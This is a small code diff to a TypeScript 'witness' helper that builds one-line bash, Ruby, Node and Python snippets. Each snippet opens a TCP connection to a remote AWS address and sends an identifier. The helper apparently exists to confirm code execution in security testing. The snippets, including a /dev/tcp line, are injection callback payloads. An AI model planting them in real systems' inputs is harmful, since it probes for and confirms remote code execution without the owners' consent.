@@ -24,7 +24,8 @@ export async function startWitness(): Promise<Witness> {
   return {
     line(type, id) {
       if (type === 'bash') return `printf ${id} > /dev/tcp/${awsAddress}/${port}`;
-      if (type === 'ruby') return `require 'socket'; TCPSocket.new('${awsAddress}', ${port}).write('${id}')`;
+      if (type === 'ruby')
+        return `require 'socket'; TCPSocket.open('${awsAddress}', ${port}) { |socket| socket.write('${id}') }`;
       if (type === 'node') return `require('node:net').connect(${port}, '${awsAddress}').end('${id}');`;
       return `import socket; socket.create_connection(('${awsAddress}', ${port})).sendall(b'${id}')`;
     },
